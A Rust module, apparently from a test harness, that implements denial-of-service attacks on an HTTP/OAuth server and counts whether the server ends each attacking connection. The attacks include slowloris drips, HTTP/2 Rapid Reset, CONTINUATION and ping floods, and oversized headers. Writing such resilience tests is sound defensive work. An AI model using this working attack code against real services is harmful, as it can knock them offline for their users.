//! What an attacker does on one connection, and who ends it.

use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, LazyLock};
use std::time::{Duration, Instant};

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::select;
use tokio::time::{sleep, timeout};

use super::frames;
use super::half_open::Knocks;

/// A pause between two acts. Attackers live elsewhere; here they take processor time from the server, the healthy callers
/// and PostgreSQL, and with half of it that would be most of their harm.
pub(super) const PAUSE: Duration = Duration::from_millis(10);
/// Within this the server must be done with a caller whose harm is plain. Less than what any header is given.
const DONE: Duration = Duration::from_secs(8);

#[derive(Clone, Debug)]
pub(super) enum Act {
    /// Sends `begun`, then a byte of `drop` now and then.
    Drip { begun: &'static str, drop: &'static str },
    /// Connects and says nothing.
    Silence,
    /// Connects and is gone, as fast as it can.
    Vanish,
    /// Says nothing, half a header or half a body, and that no more will come; and stays.
    HalfClose,
    /// Sends a header of 64 KB.
    Giant,
    /// Sends garbage behind a good request on the same connection.
    Garbage,
    /// Opens HTTP/2 streams and resets them at once (CVE-2023-44487).
    RapidReset,
    /// Asks on a hundred HTTP/2 streams and takes none of the answers.
    ShutWindow,
    /// Asks on HTTP/2 streams, and resets them while the answer is looked for in the records.
    Abandon(Asked),
    /// Trades a code on a connection of HTTP/1, and hangs up while that is under way.
    HangUp { form: Arc<str> },
    /// Never ends a header of HTTP/2 (CVE-2024-27316).
    Continuation,
    /// Knocks under addresses of others, and never comes in.
    HalfOpen(Knocks),
    /// Pings and settings, which must all be answered (CVE-2019-9512, CVE-2019-9515).
    PingFlood,
}

/// What is asked, and not waited for.
#[derive(Clone, Debug)]
pub(super) enum Asked {
    /// About a token, which takes a look into the records.
    Token(Arc<str>),
    /// For a token in return for a code, which takes a transaction.
    Trade(Arc<str>),
}

impl Asked {
    /// What it hears who waits.
    fn answer(&self) -> &'static str {
        match self {
            Asked::Token(_) => "this access token does not exist",
            Asked::Trade(_) => NO_CODE,
        }
    }

    fn on(&self, stream: u32) -> Vec<u8> {
        match self {
            Asked::Token(token) => frames::ask_about(stream, token),
            Asked::Trade(form) => frames::trade(stream, form),
        }
    }
}

/// Who ended a connection.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum End {
    /// The server: with a GOAWAY, or by hanging up.
    Server,
    /// The attack was over.
    Ours,
    /// All harm was done, and the server has let it be.
    Nobody,
}

/// What became of an attack.
#[derive(Debug, Default)]
pub(super) struct Tally {
    /// How often harm was tried, in the unit of the attack.
    pub(super) tried: AtomicUsize,
    /// Connections that the server ended.
    pub(super) ended: AtomicUsize,
    /// Connections that it let be to the end.
    pub(super) borne: AtomicUsize,
}

impl Tally {
    pub(super) fn tried(&self, more: usize) {
        self.tried.fetch_add(more, Ordering::Relaxed);
    }
}

pub(super) async fn connect(from: IpAddr, to: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    // Elsewhere than on Linux loopback is one address only: then they come from where everybody comes from.
    let _ = socket.bind(SocketAddr::new(from, 0));
    timeout(Duration::from_secs(5), socket.connect(to)).await?
}

/// A request of the token endpoint with a long body, up to the body.
pub(super) const LONG_BODY: &str = "POST /oauth/business/token HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\
                                    Content-Type: application/x-www-form-urlencoded\r\n\r\n";

impl Act {
    /// One connection's worth of harm.
    pub(super) async fn once(&self, from: IpAddr, to: SocketAddr, stop: &AtomicBool, tally: &Tally) {
        let end = match self {
            Act::HalfOpen(knocks) => knocks.flood(to, stop, tally).await.unwrap_or(End::Nobody),
            _ => {
                let Ok(mut socket) = connect(from, to).await else { return };
                // What cannot be sent was ended by the other side.
                self.on(&mut socket, stop, tally).await.unwrap_or(End::Server)
            }
        };
        match end {
            End::Server => tally.ended.fetch_add(1, Ordering::Relaxed),
            End::Nobody => tally.borne.fetch_add(1, Ordering::Relaxed),
            End::Ours => 0,
        };
    }

    async fn on(&self, socket: &mut TcpStream, stop: &AtomicBool, tally: &Tally) -> std::io::Result<End> {
        let going = || !stop.load(Ordering::Relaxed);
        match *self {
            Act::Silence | Act::Vanish | Act::HalfOpen(_) => {
                tally.tried(1);
                Ok(End::Ours)
            }
            Act::Drip { begun, drop } => {
                socket.write_all(begun.as_bytes()).await?;
                while going() {
                    socket.write_all(drop.as_bytes()).await?;
                    tally.tried(1);
                    sleep(Duration::from_millis(100)).await;
                }
                Ok(End::Ours)
            }
            Act::HalfClose => {
                let begun = ["", "GET / HTTP/1.1\r\nHost: a", LONG_BODY];
                let turn = tally.tried.fetch_add(1, Ordering::Relaxed);
                socket.write_all(begun[turn % begun.len()].as_bytes()).await?;
                socket.shutdown().await?;
                Ok(until_ended(socket, stop).await)
            }
            Act::Giant => {
                let header = format!("GET / HTTP/1.1\r\nHost: a\r\nx: {}", "y".repeat(64 * 1024));
                tally.tried(1);
                socket.write_all(header.as_bytes()).await?;
                Ok(until_ended(socket, stop).await)
            }
            Act::Garbage => {
                tally.tried(1);
                let garbage = "\u{0}\u{16}\u{3}\u{1}GET GET GET / HTTP/7\r\n: :\r\n\r\n".repeat(64);
                let asked = format!("GET /login HTTP/1.1\r\nHost: a\r\n\r\n{garbage}");
                socket.write_all(asked.as_bytes()).await?;
                Ok(until_ended(socket, stop).await)
            }
            Act::RapidReset => {
                socket.write_all(&frames::preface(false)).await?;
                // As the server ends it, the first is mostly the last.
                let more = (1..100).map(|turn| (burst(1 + 200 * turn), 100));
                let bursts = std::iter::once((FIRST_BURST.clone(), 100)).chain(more);
                flood(socket, bursts, stop, tally).await
            }
            Act::Continuation => {
                socket.write_all(&[frames::preface(false), frames::ask_without_end(1)].concat()).await?;
                // A literal header field, "x: y", a few hundred of them in each frame.
                let fields = [0x00, 1, b'x', 1, b'y'].repeat(400);
                let more = frames::frame(frames::CONTINUATION, 0, 1, &fields);
                flood(socket, std::iter::repeat_n((more, 1), 200), stop, tally).await
            }
            Act::Abandon(ref asked) => {
                // Once it is waited for, or nothing would show that it is understood.
                socket.write_all(&[frames::preface(false), asked.on(1)].concat()).await?;
                if !is_told(socket, asked.answer()).await {
                    return Ok(End::Nobody);
                }
                for (turn, first) in (0..).zip((3..).step_by(2 * FEW)) {
                    let streams = || (0..FEW).filter_map(|turn| u32::try_from(first + 2 * turn).ok());
                    let asks = streams().flat_map(|stream| asked.on(stream)).collect::<Vec<_>>();
                    socket.write_all(&asks).await?;
                    tally.tried(FEW);
                    sleep(a_moment(turn)).await;
                    socket.write_all(&streams().flat_map(frames::reset).collect::<Vec<_>>()).await?;
                    // What was answered before is taken, so that nothing but the resets can be its harm.
                    while timeout(PAUSE, socket.read(&mut [0; 4096])).await.is_ok_and(|read| matches!(read, Ok(1..))) {}
                    if !going() {
                        break;
                    }
                }
                Ok(End::Ours)
            }
            Act::HangUp { ref form } => {
                let head = "POST /oauth/business/token HTTP/1.1\r\nHost: a\r\nContent-Length: ";
                let kind = "Content-Type: application/x-www-form-urlencoded";
                let request = format!("{head}{}\r\n{kind}\r\n\r\n{form}", form.len());
                socket.write_all(request.as_bytes()).await?;
                let turn = tally.tried.fetch_add(1, Ordering::Relaxed);
                if turn == 0 && !is_told(socket, NO_CODE).await {
                    return Ok(End::Nobody);
                }
                sleep(a_moment(turn)).await;
                Ok(End::Ours)
            }
            Act::ShutWindow => {
                socket.write_all(&frames::preface(true)).await?;
                for turn in 0..100 {
                    socket.write_all(&frames::ask(1 + 2 * turn)).await?;
                    tally.tried(1);
                }
                // The headers come, the bodies wait.
                while going() {
                    let mut bytes = [0; 4096];
                    let read = timeout(Duration::from_millis(100), socket.read(&mut bytes)).await;
                    if matches!(read, Ok(Ok(0) | Err(_))) {
                        return Ok(End::Server);
                    }
                }
                Ok(End::Ours)
            }
            Act::PingFlood => {
                socket.write_all(&frames::preface(false)).await?;
                let pair = [frames::frame(frames::PING, 0, 0, &[7; 8]), frames::frame(frames::SETTINGS, 0, 0, &[])];
                let (pings, mut at) = (pair.concat().repeat(10), 0);
                while going() {
                    // Nothing of what comes back is read. What did not fit goes on where it stopped.
                    if let Ok(written) = timeout(Duration::from_millis(200), socket.write(&pings[at..])).await {
                        at += written?;
                    }
                    if at == pings.len() {
                        at = 0;
                        tally.tried(20);
                    }
                    sleep(PAUSE).await;
                }
                Ok(End::Ours)
            }
        }
    }
}

/// Of the answer to a trade of a code that there is not.
const NO_CODE: &str = "KOE320";

/// Whether the server says this, among whatever else.
async fn is_told(socket: &mut TcpStream, what: &str) -> bool {
    let mut said = Vec::new();
    let listening = async {
        while socket.read_buf(&mut said).await.is_ok_and(|read| read > 0) {
            if String::from_utf8_lossy(&said).contains(what) {
                return true;
            }
        }
        false
    };
    timeout(DONE, listening).await.unwrap_or(false)
}

/// Streams that are asked on at once, to be reset.
const FEW: usize = 4;

/// Not the same each time: some are caught before they are begun, some in the middle, some after the end.
fn a_moment(turn: usize) -> Duration {
    Duration::from_micros(300 * (turn % 8) as u64)
}

/// Made once: an attacker is somewhere else, and making it anew would take the processor away from the server.
static FIRST_BURST: LazyLock<Vec<u8>> = LazyLock::new(|| burst(1));

/// A hundred streams from this one on, opened and reset, all at once as the attack has it: what trickles in is taken and
/// given back one by one.
fn burst(first: u32) -> Vec<u8> {
    let streams = (0..100).map(|turn| first + 2 * turn);
    streams.flat_map(|stream| [frames::ask(stream), frames::reset(stream)].concat()).collect()
}

/// Sends piece after piece on a connection of HTTP/2 until the server has had enough.
async fn flood(
    socket: &mut TcpStream,
    pieces: impl Iterator<Item = (Vec<u8>, usize)>,
    stop: &AtomicBool,
    tally: &Tally,
) -> std::io::Result<End> {
    let (mut from, mut to) = socket.split();
    let sends = async {
        for (piece, count) in pieces {
            to.write_all(&piece).await?;
            tally.tried(count);
            sleep(PAUSE).await;
            if stop.load(Ordering::Relaxed) {
                return Ok(End::Ours);
            }
        }
        Ok(End::Nobody)
    };
    select! {
        biased;
        () = goodbye(&mut from) => Ok(End::Server),
        sent = sends => sent,
    }
}

/// Reads frames until the server says GOAWAY or hangs up.
async fn goodbye(socket: &mut (impl AsyncRead + Unpin)) {
    loop {
        let mut head = [0; 9];
        if socket.read_exact(&mut head).await.is_err() || head[3] == frames::GOAWAY {
            return;
        }
        let mut payload = vec![0; usize::from(head[1]) << 8 | usize::from(head[2])];
        if socket.read_exact(&mut payload).await.is_err() {
            return;
        }
    }
}

/// Reads until the server is done with us.
async fn until_ended(socket: &mut TcpStream, stop: &AtomicBool) -> End {
    let (since, mut bytes) = (Instant::now(), [0; 4096]);
    loop {
        match timeout(Duration::from_millis(50), socket.read(&mut bytes)).await {
            Ok(Ok(1..)) => {}
            Ok(Ok(0) | Err(_)) => return End::Server,
            Err(_) if stop.load(Ordering::Relaxed) => return End::Ours,
            Err(_) if since.elapsed() > DONE => return End::Nobody,
            Err(_) => {}
        }
    }
}
